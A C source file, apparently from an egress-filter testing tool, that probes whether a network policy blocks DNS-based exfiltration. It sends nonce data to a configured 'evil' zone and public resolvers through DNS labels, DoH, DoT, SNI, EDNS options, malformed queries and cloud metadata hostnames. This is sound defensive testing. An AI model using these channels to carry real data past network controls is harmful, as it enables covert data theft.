/* SPDX-License-Identifier: Apache-2.0 */
/* Section B: questions. What carries data out in one, and whom it can be sent to. */
#include <stdio.h>
#include <string.h>
#include <sys/random.h>

#include "probe.h"

static uint16_t kind(const struct eg_run *r)
{
	return r->six ? 28 : 1;
}

static void ask_at(struct eg_run *r, enum eg_which arm, const struct eg_addr *server, bool tcp, const char *name)
{
	uint8_t reply[4096];
	struct eg_buf b = { 0 };
	const uint64_t start = eg_now_ms();
	int error;

	eg_dns_query(&b, &(struct eg_query){ .name = name, .type = kind(r), .id = (uint16_t)(start | 1) });
	const int n = eg_exchange(r, server, tcp, &b, reply, sizeof(reply), &error);
	eg_free(&b);
	if (n < 0)
		eg_note(r, arm, eg_of_errno(error), error, start);
	else
		eg_note(r, arm, n >= 12 && (reply[3] & 15) == 0 && reply[7] ? EG_ANSWERED : EG_REJECTED, 0, start);
}

/* Of the names below the evil zone nothing may leave; a name that is allowed may be answered from wherever it is asked. */
static void outside_resolver(struct eg_run *r, bool tcp)
{
	static const char *const known[2][2] = { { "8.8.8.8", "1.1.1.1" },
						 { "2001:4860:4860::8888", "2606:4700:4700::1111" } };
	struct eg_addr a;
	char name[160];

	eg_name(r, EG_DENIED, r->config->evil, name);
	eg_aim_name(r, name);
	ask_at(r, EG_DENIED, eg_at(r, EG_A2), tcp, name);
	for (size_t i = 0; i < 2; i++) {
		if (eg_addr_parse(known[r->six][i], &a))
			ask_at(r, EG_DENIED, &a, tcp, name);
	}
	ask_at(r, EG_CONTROL, eg_at(r, EG_RESOLVER), tcp, r->config->allowed);
}

static void outside_udp(struct eg_run *r)
{
	outside_resolver(r, false);
}

static void outside_tcp(struct eg_run *r)
{
	outside_resolver(r, true);
}

static void dot_and_doq(struct eg_run *r)
{
	const struct eg_addr *to[] = { eg_at(r, EG_A2), eg_at(r, EG_A4) };
	struct eg_addr a[4];

	eg_resolve(r, r->config->narrow, a, EG_COUNT(a));
	for (size_t i = 0; i < EG_COUNT(to); i++) {
		eg_connect(r, EG_DENIED, to[i], 853);
		eg_udp(r, EG_DENIED, to[i], 853, r->nonce[EG_DENIED], EG_NONCE);
	}
	eg_dns_name(r, EG_CONTROL, r->config->allowed);
}

/* A resolver over HTTPS is a web server: its name decides, and with an answer in hand the address is still closed. */
static void doh(struct eg_run *r)
{
	char name[160];
	struct eg_addr a[4];

	eg_resolve(r, r->config->allowed, a, EG_COUNT(a));
	eg_name(r, EG_DENIED, r->config->evil, name);
	eg_aim_name(r, name);
	eg_tls_name(r, EG_DENIED, 443, name, strlen(name));
	eg_get(r, EG_DENIED, 80, name, "Accept: application/dns-message\r\n");
	eg_connect(r, EG_DENIED, eg_at(r, EG_A2), eg_port(r));
	eg_get(r, EG_CONTROL, 80, r->config->allowed, "Accept: application/dns-message\r\n");
}

/* Twenty names below the zone that is not allowed, in each place where a name is looked at: its servers hear of none. */
static void random_labels(struct eg_run *r)
{
	char name[200], connect[512];
	struct eg_addr a[4];
	uint32_t random[20];
	struct eg_buf b = { 0 };

	eg_resolve(r, r->config->allowed, a, EG_COUNT(a));
	if (getrandom(random, sizeof(random), 0) != sizeof(random))
		return;
	for (size_t i = 0; i < EG_COUNT(random); i++) {
		snprintf(name, sizeof(name), "%08x.%s.%s", random[i], r->nonce[EG_DENIED], r->config->evil);
		if (i % 4 == 0) {
			eg_dns_name(r, EG_DENIED, name);
		} else if (i % 4 == 1) {
			eg_tls_name(r, EG_DENIED, 443, name, strlen(name));
		} else if (i % 4 == 2) {
			eg_get(r, EG_DENIED, 80, name, NULL);
		} else {
			b.n = 0;
			snprintf(connect, sizeof(connect), "CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n", name,
				 name);
			eg_put(&b, connect, strlen(connect));
			eg_tcp_send(r, EG_DENIED, eg_at(r, EG_A1), 80, &b);
		}
	}
	eg_free(&b);
	eg_dns_name(r, EG_CONTROL, eg_name(r, EG_CONTROL, r->config->wild, name));
}

/* Data in the labels of names that a wildcard allows: there is a budget, and behind it silence. */
static void label_budget(struct eg_run *r)
{
	char name[200];
	const struct eg_query q = { .name = name, .type = kind(r) };
	struct eg_run aside = *r;

	eg_dns_name(r, EG_CONTROL, eg_name(r, EG_CONTROL, r->config->wild, name));
	for (unsigned i = 0; i < 400; i++) {
		snprintf(name, sizeof(name), "x%u%c%s.%s", i, r->six ? '6' : '4', r->config->run, r->config->wild);
		if (eg_dns(&aside, EG_CONTROL, &q, false) == EG_REJECTED)
			break;
	}
	eg_dns_name(r, EG_DENIED, eg_name(r, EG_DENIED, r->config->wild, name));
	eg_remark(r, EG_DENIED, "after %u names", aside.arm[EG_CONTROL].steps);
}

static void record_types(struct eg_run *r)
{
	static const uint16_t types[] = { 16, 10, 15, 33, 5, 12, 255, 257, 2, 35, 52, 251, 252, 65280 };
	char name[160];

	eg_name(r, EG_DENIED, r->config->wild, name);
	for (size_t i = 0; i < EG_COUNT(types); i++)
		eg_dns(r, EG_DENIED, &(struct eg_query){ .name = name, .type = types[i] }, i % 2);
	eg_dns_name(r, EG_CONTROL, eg_name(r, EG_CONTROL, r->config->wild, name));
}

static void question_count(struct eg_run *r)
{
	char name[160];

	eg_name(r, EG_DENIED, r->config->wild, name);
	eg_dns(r, EG_DENIED, &(struct eg_query){ .name = name, .type = kind(r), .no_count = true }, false);
	eg_dns(r, EG_DENIED, &(struct eg_query){ .name = name, .type = kind(r), .questions = 2 }, false);
	eg_dns(r, EG_DENIED, &(struct eg_query){ .name = name, .type = kind(r), .questions = 255 }, true);
	eg_dns_name(r, EG_CONTROL, eg_name(r, EG_CONTROL, r->config->wild, name));
}

/* The question is allowed; what it carries along is the denied arm. */
static void along(struct eg_run *r, const struct eg_query *q)
{
	char name[160];
	struct eg_query mine = *q;

	mine.name = eg_name(r, EG_CONTROL, r->config->wild, name);
	mine.type = kind(r);
	for (int tcp = 0; tcp < 2; tcp++) {
		const uint64_t start = eg_now_ms();
		struct eg_run aside = *r;
		const enum eg_client what = eg_dns(&aside, EG_DENIED, &mine, tcp);
		eg_note(r, EG_DENIED, what == EG_ANSWERED ? EG_STRIPPED : what, 0, start);
	}
	eg_dns_name(r, EG_CONTROL, name);
}

static void edns_payload(struct eg_run *r)
{
	along(r, &(struct eg_query){ .option = r->nonce[EG_DENIED], .option_n = EG_NONCE });
}

static void extra_bytes(struct eg_run *r)
{
	along(r, &(struct eg_query){ .tail = r->nonce[EG_DENIED], .tail_n = EG_NONCE });
	along(r, &(struct eg_query){ .extra = r->nonce[EG_DENIED], .extra_n = EG_NONCE });
}

static void malformed(struct eg_run *r)
{
	static const struct {
		uint8_t p[4];
		size_t n;
	} ends[] = {
		{ { 0xc0, 0x0c }, 2 }, { { 0xc0, 0xff }, 2 }, { { 0x41, 0 }, 2 },
		{ { 0x80, 0 }, 2 },    { { 63, 'a' }, 2 },    { { 0xc0 }, 1 },
	};
	char name[160];

	for (size_t i = 0; i < EG_COUNT(ends); i++) {
		struct eg_buf wire = { 0 };
		eg_u8(&wire, EG_NONCE);
		eg_put(&wire, r->nonce[EG_DENIED], EG_NONCE);
		eg_put(&wire, ends[i].p, ends[i].n);
		eg_dns(r, EG_DENIED, &(struct eg_query){ .wire = wire.p, .wire_n = wire.n, .type = kind(r) }, i % 2);
		eg_free(&wire);
	}
	eg_name(r, EG_DENIED, r->config->wild, name);
	eg_dns(r, EG_DENIED, &(struct eg_query){ .name = name, .type = kind(r), .flags = 0x2900 },
	       false); /* an UPDATE */
	eg_dns_name(r, EG_CONTROL, eg_name(r, EG_CONTROL, r->config->wild, name));
}

static void special_names(struct eg_run *r)
{
	static const char *const names[] = { "metadata.google.internal",
					     "host.docker.internal",
					     "gateway.docker.internal",
					     "instance-data.ec2.internal",
					     "kubernetes.default.svc.cluster.local",
					     "metadata" };

	for (size_t i = 0; i < EG_COUNT(names); i++)
		eg_dns_name(r, EG_DENIED, names[i]);
	eg_dns_name(r, EG_CONTROL, r->config->allowed);
}

const struct eg_case eg_cases_dns[] = {
	{ 29, 'B', "a resolver of one's own choice, UDP", outside_udp, 0, "dns_policy" },
	{ 30, 'B', "a resolver of one's own choice, TCP", outside_tcp, 0, "dns_policy" },
	{ 32, 'B', "DNS over TLS and over QUIC", dot_and_doq, 0, "flow_policy" },
	{ 33, 'B', "DNS over HTTPS at a shared address", doh, 0, "flow_policy sni http_host" },
	{ 34, 'B', "random labels under a denied zone, in every place", random_labels, 0, "dns_policy sni http_host" },
	{ 35, 'B', "data in labels under an allowed wildcard", label_budget, EG_LAST | EG_ONCE, "dns_names" },
	{ 36, 'B', "record types other than addresses", record_types, EG_NO_RECORD, "dns_types" },
	{ 37, 'B', "no question, two, 255", question_count, EG_NO_RECORD, NULL },
	{ 39, 'B', "bytes in an EDNS option", edns_payload, EG_NO_RECORD, NULL },
	{ 40, 'B', "bytes behind the message and in extra records", extra_bytes, EG_NO_RECORD, NULL },
	{ 42, 'B', "malformed names: loops, label types, cut short", malformed, EG_NO_RECORD, NULL },
	{ 62, 'B', "names of hosts and metadata services", special_names, EG_ONCE, "dns_policy" },
	{ 0 },
};
